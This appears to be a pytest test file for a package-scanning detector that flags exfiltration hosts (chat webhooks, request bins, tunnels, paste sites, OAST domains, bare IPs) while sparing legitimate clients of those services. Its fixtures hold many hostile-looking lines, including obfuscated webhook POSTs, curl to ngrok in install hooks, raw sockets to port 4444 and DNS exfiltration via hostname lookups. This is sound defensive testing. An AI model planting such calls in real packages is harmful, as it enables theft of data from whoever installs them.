"""Webhooks, bins, tunnels, pastes and bare addresses are told; clients of chat services and lists of hosts are not."""

from __future__ import annotations

import base64

import pytest

from app.core.package import Package
from app.core.specimen import ArtifactFacts, Specimen
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import exfiltration_host

WEBHOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/x"
ENCODED = base64.b64encode(WEBHOOK.encode()).decode()
HALVES = WEBHOOK[:14], WEBHOOK[14:30], WEBHOOK[30:]


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(exfiltration_host, artifact)]


JAVASCRIPT = [
    f"fetch('{WEBHOOK}', {{ method: 'POST', body: 'x' }});",
    f"const W = '{WEBHOOK}';\nrequire('axios').post(W, {{ content: 'x' }});",
    "fetch('{}' + '{}' + '{}', {{ method: 'POST' }});".format(*HALVES),
    f"require('axios').post(Buffer.from('{ENCODED}', 'base64').toString(), {{}});",
    "const { request: r } = require('https'); r({ hostname: 'hooks.slack.com', path: '/services/T/B/x', method: 'POST' });",
    "fetch(['https:/', 'webhook.site', 'abc'].join('/'), { method: 'POST' });",
    "const h = 'pipedream'; fetch(`https://eo1.m.${h}.net/`, { method: 'POST' });",
    "require('http').get('http://203.0.113.9:8080/x');",
    "require('net')['con' + 'nect'](4444, '203.0.113.9');",
    "require('child_process').execSync('curl -d @x https://a1b2.ngrok-free.app/');",
    "require('dns').lookup('x.abc.oast.fun', () => {});",
]
PYTHON = [
    f"import requests\nrequests.post('{WEBHOOK}', json={{}})\n",
    "import urllib.request as u\nu.urlopen('https://webhook' + '.site/abc', data=b'x')\n",
    "import requests as r\ngetattr(r, 'po' + 'st')('https://api.telegram.org/bot123:abc/sendMessage', data={})\n",
    "__import__('requests').post('https://abc.oast.fun/')\n",
    f"import base64, requests\nrequests.post(base64.b64decode('{ENCODED}').decode(), json={{}})\n",
    "import urllib.request\nurllib.request.urlopen('http://3405803785/x')\n",
    "import http.client\nc = http.client.HTTPSConnection('hooks.slack.com')\nc.request('POST', '/services/T/B/x')\n",
    "import subprocess\nsubprocess.run(['curl', '--data', 'x', 'https://a1b2.ngrok-free.app/'])\n",
    "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n",
]


class TestAlarm:
    @pytest.mark.parametrize("source", JAVASCRIPT)
    def test_the_ways_of_javascript(self, source: str) -> None:
        assert severities(npm({"index.js": source})) == ["high"]
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]

    @pytest.mark.parametrize("source", PYTHON)
    def test_the_ways_of_python(self, source: str) -> None:
        assert severities(wheel({"imgpress/__init__.py": source})) == ["high"]
        assert severities(sdist({"setup.py": source})) == ["high"]

    @pytest.mark.parametrize(
        "command",
        [
            "curl -X POST https://eo1.m.pipedream.net -d 1",
            "wget -qO- http://203.0.113.7/x",
            "H=webhook.site; curl https://$H/abc",
            "nslookup $(hostname).abc.oastify.com",
        ],
    )
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert severities(npm(scripts={"preinstall": command})) == ["high"]

    def test_it_says_what_kind_of_place_it_is_and_shows_the_line(self) -> None:
        (found,) = findings(exfiltration_host, npm({"a.js": JAVASCRIPT[1]}, scripts={"postinstall": "node a.js"}))
        assert told([found]) == ["high: its install step talks to a chat webhook (discord.com)"]
        assert places(found) == ["package.json:5", "a.js:2"]

    def test_a_paste_site_is_high_in_an_install_step(self) -> None:
        source = "fetch('https://pastebin.com/raw/x');"
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]

    def test_a_command_is_medium_and_a_test_low(self) -> None:
        source = "fetch('https://webhook.site/abc', { method: 'POST' });"
        assert severities(npm({"cli.js": source}, bin={"x": "cli.js"})) == ["medium"]
        assert severities(npm({"test/x.js": source})) == ["low"]

    def test_a_chat_service_without_a_webhook_is_high_only_in_an_install_step(self) -> None:
        source = "module.exports = (id) => fetch('https://discord.com/api/v10/users/' + id);"
        assert severities(npm({"index.js": source})) == ["medium"]
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]

    def test_a_package_that_calls_its_drop_by_its_own_name_is_told(self) -> None:
        artifact = npm({"index.js": "fetch('https://lodash.ngrok.io/', { method: 'POST' });"})
        (found,) = exfiltration_host.detect(Specimen(Package.parse("npm/lodash@4.0.0"), artifact))
        assert found.severity == "high"

    def test_a_package_of_the_service_s_name_is_told_in_an_install_step(self) -> None:
        artifact = npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"})
        (found,) = exfiltration_host.detect(Specimen(Package.parse("npm/discord-tools@1.0.0"), artifact))
        assert found.severity == "high"


class TestInnocentTwin:
    @pytest.mark.parametrize(
        ("name", "source"),
        [
            (
                "discord.js",
                "module.exports = (id, t, b) => fetch(`https://discord.com/api/webhooks/${id}/${t}`, { body: b });",
            ),
            ("telegraf-telegram", "module.exports = (t) => fetch(`https://api.telegram.org/bot${t}/getMe`);"),
            ("@slack/webhook", "const base = 'https://hooks.slack.com/'; module.exports = (p) => fetch(base + p);"),
            ("ngrok", "module.exports = () => fetch('https://api.ngrok.io/tunnels');"),
            ("pastebin-js", "module.exports = (d) => fetch('https://pastebin.com/api/api_post.php', { body: d });"),
        ],
    )
    def test_a_client_of_the_service_is_not_told(self, name: str, source: str) -> None:
        found = exfiltration_host.detect(Specimen(Package.parse(f"npm/{name}@1.0.0"), npm({"index.js": source})))
        assert list(found) == []

    def test_a_tool_that_shares_reports_on_a_paste_site_is_no_warning(self) -> None:
        """The shape of IPython's, which does so when somebody types a command."""
        source = "from urllib.request import Request, urlopen\n\n\ndef pastebin(code):\n    return urlopen(Request('https://dpaste.com/api/v2/', data=code)).read()\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["medium"]

    def test_a_client_that_is_told_which_webhook_to_use_is_no_warning(self) -> None:
        """The shape of plugins that notify: whoever uses them brings the address."""
        source = "module.exports = (id, token) => fetch(`https://discord.com/api/webhooks/${id}/${token}`, { method: 'POST' });"
        assert severities(npm({"index.js": source})) == ["medium"]

    @pytest.mark.parametrize(
        "source",
        [
            "module.exports = ['https://1.1.1.1/dns-query', 'https://8.8.8.8/resolve'].map((u) => fetch(u));",
            "fetch('http://127.0.0.1:4040/api'); fetch('http://192.168.0.10/'); fetch('http://10.0.0.1/');",
            "const servers = ['http://203.0.113.1/', 'http://203.0.113.2/'];",
            "fetch('https://slack.com/api/chat.postMessage');",
            "const hosts = ['https://webhook.site/', 'https://ngrok.io/', 'https://pastebin.com/', 'https://transfer.sh/', 'https://beeceptor.com/', 'https://loca.lt/', 'https://file.io/'];",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(exfiltration_host, npm({"index.js": source})) == []

    def test_the_machine_s_own_address_is_found_by_asking_a_resolver(self) -> None:
        source = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))\nprint(s.getsockname()[0])\n"
        assert findings(exfiltration_host, wheel({"imgpress/__init__.py": source})) == []

    def test_an_invitation_that_an_install_step_prints(self) -> None:
        source = "console.log('Join us: https://discord.com/invite/x');"
        assert findings(exfiltration_host, npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == []

    def test_an_address_that_is_only_named_is_told_softly(self) -> None:
        source = "HELP = 'paste the report to https://pastebin.com/ and open an issue'\n"
        assert set(severities(wheel({"imgpress/__init__.py": source}))) <= {"low"}

    def test_documents_are_not_told(self) -> None:
        assert findings(exfiltration_host, npm({"README.md": WEBHOOK, "examples/a.js": JAVASCRIPT[0]})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = npm({"index.js": JAVASCRIPT[0]})
        assert [found.new for found in findings(exfiltration_host, old, old)] == [False]
